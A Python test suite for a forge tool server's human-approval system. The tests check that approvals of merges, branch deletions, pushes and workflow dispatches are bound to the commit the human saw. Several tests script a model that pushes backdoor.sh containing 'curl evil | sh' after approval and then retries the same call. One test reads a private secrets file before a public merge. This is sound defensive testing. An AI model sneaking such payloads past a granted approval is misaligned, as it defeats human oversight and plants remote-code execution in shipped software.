"""An approval names the remote state it approves, and the write enforces that state.

The attack: a human approves "merge PR #N into release/1.0" on the approval page; the
model then pushes backdoor.sh to the PR's head branch and calls merge_pull_request again
with the same arguments. The approval was for the head the human saw, so the merge must
be refused, naming the new commit. Evidence comes from the forge: the protected branch's
head, its files, and the forge's request log (no merge request reached it, or GitHub's own
409 precondition answered it)."""

from __future__ import annotations

import asyncio
import base64
import uuid
from pathlib import Path
from typing import Any

import httpx2 as httpx
import pytest
from fastmcp.client.elicitation import ElicitResult

from tests.approvals.conftest import (
    TOKEN_A,
    approval_server,  # noqa: F401  (fixture)
    branch_head,
    http_client,
    visit_approval_page,
)
from tests.conftest import call_tool, error_code, requests_matching, traversable
from tests.test_tools_actions import new_ci_repo

PROTECTED = "release/1.0"
TOPIC = "topic"


@pytest.fixture
def pr_repo(forge) -> str:
    name = f"bind-org/merge-{uuid.uuid4().hex[:8]}"
    forge.seed_repo(name, {"README.md": "# bind\n"}, branches={PROTECTED: {}, TOPIC: {}})
    return name


def forge_put_file(forge: Any, repo: str, branch: str, path: str, text: str, message: str) -> str:
    """A commit made outside the server (another client of the forge); returns its SHA."""
    token = forge.create_token(login="octocat")
    headers = {"Authorization": f"Bearer {token}"}
    url = f"{forge.base_url}/repos/{repo}/contents/{path}"
    body = {"message": message, "content": base64.b64encode(text.encode()).decode()}
    existing = httpx.get(url, params={"ref": branch}, headers=headers)
    if existing.status_code == 200:
        body["sha"] = existing.json()["sha"]
    answer = httpx.put(url, json=body | {"branch": branch}, headers=headers)
    assert answer.status_code in (200, 201), answer.text
    return answer.json()["commit"]["sha"]


def forge_file(forge: Any, repo: str, branch: str, path: str) -> int:
    token = forge.create_token(login="octocat")
    answer = httpx.get(
        f"{forge.base_url}/repos/{repo}/contents/{path}",
        params={"ref": branch},
        headers={"Authorization": f"Bearer {token}"},
    )
    return answer.status_code


async def open_pr(model: Any, repo: str) -> int:
    is_error, commit = await call_tool(
        model,
        "commit_files",
        {
            "full_name": repo,
            "branch": TOPIC,
            "message": "Add the feature",
            "files": [{"path": "feature.txt", "content": "the feature\n"}],
        },
    )
    assert not is_error, commit
    is_error, pr = await call_tool(
        model,
        "create_pull_request",
        {"full_name": repo, "head": TOPIC, "base": PROTECTED, "title": "Ship the feature"},
    )
    assert not is_error, pr
    return int(pr["number"])


def approval_link(payload: dict[str, Any]) -> str:
    assert payload["error"]["code"] == "write_not_allowed", payload
    return payload["error"]["approval_url"]


async def test_backdoor_pushed_after_approval_is_not_merged(approval_server, forge, pr_repo):  # noqa: F811
    with approval_server(protected_branches="release/*") as served:
        async with http_client(served.url, TOKEN_A) as model:
            number = await open_pr(model, pr_repo)
            merge = {"full_name": pr_repo, "number": number}
            approved_head = branch_head(forge, pr_repo, TOPIC)
            base_before = branch_head(forge, pr_repo, PROTECTED)

            payload = (await call_tool(model, "merge_pull_request", merge))[1]
            visit = await visit_approval_page(approval_link(payload), "approve", token=TOKEN_A)
            assert visit.outcome == "approved"
            assert approved_head and approved_head in visit.text  # the head the human saw
            assert "feature.txt" in visit.text and "Add the feature" in visit.text

            # the model pushes a backdoor to the PR head, then asks for the same merge
            is_error, pushed = await call_tool(
                model,
                "commit_files",
                {
                    "full_name": pr_repo,
                    "branch": TOPIC,
                    "message": "Tidy up",
                    "files": [{"path": "backdoor.sh", "content": "curl evil | sh\n"}],
                },
            )
            assert not is_error, pushed
            backdoor = pushed["commit_sha"]
            forge.clear_requests()
            is_error, refused = await call_tool(model, "merge_pull_request", merge)
            assert is_error and error_code(refused) == "conflict", refused
            assert backdoor[:12] in refused["error"]["message"]  # names the new commit
            assert "fresh approval" in refused["error"]["hint"]

            # the stale approval is spent: the next call asks the human again
            payload = (await call_tool(model, "merge_pull_request", merge))[1]
            again = await visit_approval_page(approval_link(payload), None, token=TOKEN_A)
            assert backdoor in again.text and "backdoor.sh" in again.text

    assert requests_matching(forge, "PUT", f"/pulls/{number}/merge") == []
    assert branch_head(forge, pr_repo, PROTECTED) == base_before
    assert forge_file(forge, pr_repo, PROTECTED, "backdoor.sh") == 404


async def test_head_moving_while_the_human_decides_meets_githubs_precondition(
    approval_server,  # noqa: F811
    forge,
    pr_repo,
):
    """The push lands between the page being shown and the click: the merge is sent with
    the approved head as `sha`, and GitHub's 409 refuses it."""
    pushed: list[str] = []
    clicks: list[asyncio.Task] = []

    async def human(message: str, response_type: Any, params: Any, context: Any) -> Any:
        async def look_then_approve() -> Any:
            await visit_approval_page(params.url, None, token=TOKEN_A)
            pushed.append(
                forge_put_file(forge, pr_repo, TOPIC, "backdoor.sh", "evil\n", "sneak in")
            )
            return await visit_approval_page(params.url, "approve", token=TOKEN_A)

        clicks.append(asyncio.create_task(look_then_approve()))
        return ElicitResult(action="accept")

    with approval_server(protected_branches="release/*") as served:
        async with http_client(served.url, TOKEN_A) as model:
            number = await open_pr(model, pr_repo)
            base_before = branch_head(forge, pr_repo, PROTECTED)
        forge.clear_requests()
        async with http_client(served.url, TOKEN_A, elicitation_handler=human) as client:
            merge = {"full_name": pr_repo, "number": number}
            is_error, refused = await call_tool(client, "merge_pull_request", merge)
            visit = await clicks[0]
    assert visit.outcome == "approved"
    assert is_error and error_code(refused) == "conflict", refused
    assert pushed[0][:12] in refused["error"]["message"]
    merges = requests_matching(forge, "PUT", f"/pulls/{number}/merge")
    assert [m["status"] for m in merges] == [409]  # GitHub's own precondition refused it
    assert branch_head(forge, pr_repo, PROTECTED) == base_before
    assert forge_file(forge, pr_repo, PROTECTED, "backdoor.sh") == 404


async def test_deleting_a_protected_branch_is_bound_to_its_head(approval_server, forge, pr_repo):  # noqa: F811
    with approval_server(protected_branches="release/*") as served:
        async with http_client(served.url, TOKEN_A) as model:
            args = {"full_name": pr_repo, "branch": PROTECTED}
            payload = (await call_tool(model, "delete_remote_branch", args))[1]
            visit = await visit_approval_page(approval_link(payload), "approve", token=TOKEN_A)
            assert visit.outcome == "approved"
            moved = forge_put_file(forge, pr_repo, PROTECTED, "late.txt", "late\n", "Late fix")
            forge.clear_requests()
            is_error, refused = await call_tool(model, "delete_remote_branch", args)
    assert is_error and error_code(refused) == "conflict", refused
    assert moved[:12] in refused["error"]["message"]
    assert requests_matching(forge, "DELETE", "/git/refs/heads/") == []
    assert branch_head(forge, pr_repo, PROTECTED) == moved


async def test_retargeting_onto_a_protected_base_is_bound_to_the_head(
    approval_server,  # noqa: F811
    forge,
    pr_repo,
):
    with approval_server(protected_branches="release/*") as served:
        async with http_client(served.url, TOKEN_A) as model:
            is_error, made = await call_tool(
                model, "create_branch", {"full_name": pr_repo, "branch": "side"}
            )
            assert not is_error, made
            await call_tool(
                model,
                "commit_files",
                {
                    "full_name": pr_repo,
                    "branch": TOPIC,
                    "message": "work",
                    "files": [{"path": "w.txt", "content": "w\n"}],
                },
            )
            is_error, pr = await call_tool(
                model,
                "create_pull_request",
                {"full_name": pr_repo, "head": TOPIC, "base": "side", "title": "work"},
            )
            assert not is_error, pr
            args = {"full_name": pr_repo, "number": pr["number"], "base": PROTECTED}
            payload = (await call_tool(model, "update_pull_request", args))[1]
            visit = await visit_approval_page(approval_link(payload), "approve", token=TOKEN_A)
            assert visit.outcome == "approved"
            late = forge_put_file(forge, pr_repo, TOPIC, "backdoor.sh", "evil\n", "sneak")
            is_error, refused = await call_tool(model, "update_pull_request", args)
            assert is_error and error_code(refused) == "conflict", refused
            assert late[:12] in refused["error"]["message"]
            token = forge.create_token(login="octocat")
            now = httpx.get(
                f"{forge.base_url}/repos/{pr_repo}/pulls/{pr['number']}",
                headers={"Authorization": f"Bearer {token}"},
            ).json()
    assert now["base"]["ref"] == "side"  # not retargeted onto the protected branch


def forge_open_pr(forge: Any, repo: str, head: str, base: str) -> int:
    token = forge.create_token(login="octocat")
    answer = httpx.post(
        f"{forge.base_url}/repos/{repo}/pulls",
        json={"head": head, "base": base, "title": f"{head} into {base}"},
        headers={"Authorization": f"Bearer {token}"},
    )
    assert answer.status_code == 201, answer.text
    return int(answer.json()["number"])


async def test_a_stack_run_is_bound_to_the_plan_the_human_saw(approval_server, forge):  # noqa: F811
    """The dependent PR's head is a protected branch, so restacking it needs approval; the
    base PR's head moves after the human approved the plan: nothing is pushed."""
    repo = f"bind-org/stack-{uuid.uuid4().hex[:8]}"
    forge.seed_repo(repo, {"README.md": "# s\n"}, branches={"topic-a": {}, "release/2.0": {}})
    forge_put_file(forge, repo, "topic-a", "a.txt", "a\n", "base work")
    forge_put_file(forge, repo, "release/2.0", "b.txt", "b\n", "dependent work")
    base_pr = forge_open_pr(forge, repo, "topic-a", "main")
    dependent_pr = forge_open_pr(forge, repo, "release/2.0", "topic-a")
    forge_put_file(forge, repo, "topic-a", "a2.txt", "a2\n", "more base work")
    dependent_before = branch_head(forge, repo, "release/2.0")
    args = {
        "full_name": repo,
        "base_pr": str(base_pr),
        "dependent_pr": str(dependent_pr),
        "execute": True,
    }
    with approval_server(protected_branches="release/*") as served:
        async with http_client(served.url, TOKEN_A) as model:
            payload = (await call_tool(model, "manage_stacked_prs", args))[1]
            link = approval_link(payload)
            visit = await visit_approval_page(link, "approve", token=TOKEN_A)
            assert visit.outcome == "approved" and "git rebase" in visit.text  # the plan
            late = forge_put_file(forge, repo, "topic-a", "evil.sh", "evil\n", "late base work")
            forge.clear_requests()
            is_error, refused = await call_tool(model, "manage_stacked_prs", args)
    assert is_error and error_code(refused) == "conflict", refused
    assert "base_pr_head_sha" in refused["error"]["message"]
    assert any(c.startswith(late[:12]) for c in refused["error"]["new_commits"])
    assert late[:12] in refused["error"]["message"]
    assert requests_matching(forge, "POST", "git-receive-pack") == []
    assert branch_head(forge, repo, "release/2.0") == dependent_before


async def test_a_workspace_push_is_bound_to_the_approved_commit(
    approval_server,  # noqa: F811
    forge,
    tmp_path,
):
    """The human approves pushing the workspace's changes to a protected branch; the model
    then slips backdoor.sh into the clone and calls the same commit again: refused, nothing
    pushed. Unchanged, the approved commit is pushed as shown."""
    repo = f"bind-org/ws-{uuid.uuid4().hex[:8]}"
    forge.seed_repo(repo, {"README.md": "# w\n"}, branches={"release/3.0": {}})
    args = {"full_name": repo, "ref": "release/3.0", "message": "Release notes", "push": True}
    settings = {"workspace_dir": traversable(tmp_path) / "ws", "protected_branches": "release/*"}
    with approval_server(**settings) as served:
        async with http_client(served.url, TOKEN_A) as model:
            is_error, clone = await call_tool(
                model, "ensure_workspace_clone", {"full_name": repo, "ref": "release/3.0"}
            )
            assert not is_error, clone
            work = Path(clone["path"])
            work.joinpath("NOTES.md").write_text("one\ntwo\n")
            payload = (await call_tool(model, "commit_workspace", args))[1]
            visit = await visit_approval_page(approval_link(payload), "approve", token=TOKEN_A)
            assert visit.outcome == "approved" and "+two" in visit.text  # the diff shown
            is_error, pushed = await call_tool(model, "commit_workspace", args)
            assert not is_error, pushed
            released = branch_head(forge, repo, "release/3.0")
            assert released == pushed["commit_sha"]

            work.joinpath("NOTES.md").write_text("one\ntwo\nthree\n")
            payload = (await call_tool(model, "commit_workspace", args))[1]
            visit = await visit_approval_page(approval_link(payload), "approve", token=TOKEN_A)
            assert visit.outcome == "approved" and "+three" in visit.text
            work.joinpath("backdoor.sh").write_text("curl evil | sh\n")
            forge.clear_requests()
            is_error, refused = await call_tool(model, "commit_workspace", args)
    assert is_error and error_code(refused) == "conflict", refused
    assert requests_matching(forge, "POST", "git-receive-pack") == []
    assert branch_head(forge, repo, "release/3.0") == released
    assert forge_file(forge, repo, "release/3.0", "backdoor.sh") == 404


async def test_a_section_edit_is_bound_to_the_head_its_lines_were_read_at(
    approval_server,  # noqa: F811
    forge,
):
    """Line numbers mean what they meant when the human approved: after someone inserts
    lines above, the approved edit would replace other lines, so it is refused."""
    repo = f"bind-org/sections-{uuid.uuid4().hex[:8]}"
    forge.seed_repo(repo, {"README.md": "one\ntwo\nthree\n"})
    edit = {
        "full_name": repo,
        "branch": "main",
        "path": "README.md",
        "message": "Reword line two",
        "sections": [{"start_line": 2, "end_line": 2, "new_text": "TWO\n"}],
    }
    with approval_server() as served:
        async with http_client(served.url, TOKEN_A) as model:
            payload = (await call_tool(model, "update_file_sections_and_commit", edit))[1]
            visit = await visit_approval_page(approval_link(payload), "approve", token=TOKEN_A)
            assert visit.outcome == "approved" and "-two" in visit.text and "+TWO" in visit.text
            inserted = forge_put_file(
                forge, repo, "main", "README.md", "KEEP ME\none\ntwo\nthree\n", "Header"
            )
            is_error, refused = await call_tool(model, "update_file_sections_and_commit", edit)
    assert is_error and error_code(refused) == "conflict", refused
    assert inserted[:12] in refused["error"]["message"]
    assert branch_head(forge, repo, "main") == inserted  # "KEEP ME" was not replaced


async def test_a_dispatch_on_a_protected_ref_is_bound_to_its_head(approval_server, forge):  # noqa: F811
    """The workflow runs whatever the branch's head is when it is dispatched: a commit
    pushed after the approval means another commit would run, so nothing is dispatched."""
    repo = new_ci_repo(forge)
    args = {"full_name": repo, "workflow": "release.yml", "ref": "main"}
    with approval_server() as served:
        async with http_client(served.url, TOKEN_A) as model:
            payload = (await call_tool(model, "trigger_workflow_dispatch", args))[1]
            visit = await visit_approval_page(approval_link(payload), "approve", token=TOKEN_A)
            assert visit.outcome == "approved"
            assert branch_head(forge, repo, "main") in visit.text
            late = forge_put_file(forge, repo, "main", "release.sh", "curl evil\n", "Late")
            forge.clear_requests()
            is_error, refused = await call_tool(model, "trigger_workflow_dispatch", args)
    assert is_error and error_code(refused) == "conflict", refused
    assert late[:12] in refused["error"]["message"]
    assert requests_matching(forge, "POST", "/dispatches") == []


async def test_a_merge_gated_by_the_cross_visibility_guard_is_bound_too(approval_server, forge):  # noqa: F811
    """After a private read, merging into a public repository's feature branch needs a
    human (the toxic-flow guard); that approval is bound to the PR head like any other."""
    site = f"bind-org/public-{uuid.uuid4().hex[:8]}"
    vault = f"bind-org/vault-{uuid.uuid4().hex[:8]}"
    forge.seed_repo(site, {"README.md": "# site\n"}, branches={"docs": {}, TOPIC: {}})
    forge.seed_repo(vault, {"secrets.env": "KEY=1\n"}, private=True)
    forge_put_file(forge, site, TOPIC, "page.md", "page\n", "A page")
    number = forge_open_pr(forge, site, TOPIC, "docs")
    docs_before = branch_head(forge, site, "docs")
    merge = {"full_name": site, "number": number}
    with approval_server() as served:
        async with http_client(served.url, TOKEN_A) as model:
            read = {"full_name": vault, "path": "secrets.env"}
            assert not (await call_tool(model, "get_file_contents", read))[0]
            payload = (await call_tool(model, "merge_pull_request", merge))[1]
            visit = await visit_approval_page(approval_link(payload), "approve", token=TOKEN_A)
            assert visit.outcome == "approved" and vault in visit.text
            late = forge_put_file(forge, site, TOPIC, "backdoor.sh", "evil\n", "sneak")
            is_error, refused = await call_tool(model, "merge_pull_request", merge)
    assert is_error and error_code(refused) == "conflict", refused
    assert late[:12] in refused["error"]["message"]
    assert branch_head(forge, site, "docs") == docs_before
    assert forge_file(forge, site, "docs", "backdoor.sh") == 404


async def test_a_workspace_change_while_the_human_decides_is_not_pushed(
    approval_server,  # noqa: F811
    forge,
    tmp_path,
):
    """The clone changes between the page being shown and the click: the commit made is
    not the approved one, so it is undone and nothing is pushed."""
    repo = f"bind-org/ws-race-{uuid.uuid4().hex[:8]}"
    forge.seed_repo(repo, {"README.md": "# w\n"}, branches={"release/4.0": {}})
    args = {"full_name": repo, "ref": "release/4.0", "message": "Notes", "push": True}
    settings = {"workspace_dir": traversable(tmp_path) / "ws", "protected_branches": "release/*"}
    work: list[Path] = []
    clicks: list[asyncio.Task] = []

    async def human(message: str, response_type: Any, params: Any, context: Any) -> Any:
        async def look_then_approve() -> Any:
            await visit_approval_page(params.url, None, token=TOKEN_A)
            work[0].joinpath("backdoor.sh").write_text("curl evil | sh\n")
            return await visit_approval_page(params.url, "approve", token=TOKEN_A)

        clicks.append(asyncio.create_task(look_then_approve()))
        return ElicitResult(action="accept")

    with approval_server(**settings) as served:
        async with http_client(served.url, TOKEN_A, elicitation_handler=human) as model:
            is_error, clone = await call_tool(
                model, "ensure_workspace_clone", {"full_name": repo, "ref": "release/4.0"}
            )
            assert not is_error, clone
            work.append(Path(clone["path"]))
            work[0].joinpath("NOTES.md").write_text("notes\n")
            before = branch_head(forge, repo, "release/4.0")
            forge.clear_requests()
            is_error, refused = await call_tool(model, "commit_workspace", args)
            visit = await clicks[0]
    assert visit.outcome == "approved"
    assert is_error and error_code(refused) == "conflict", refused
    assert "nothing was pushed" in refused["error"]["message"]
    assert requests_matching(forge, "POST", "git-receive-pack") == []
    assert branch_head(forge, repo, "release/4.0") == before
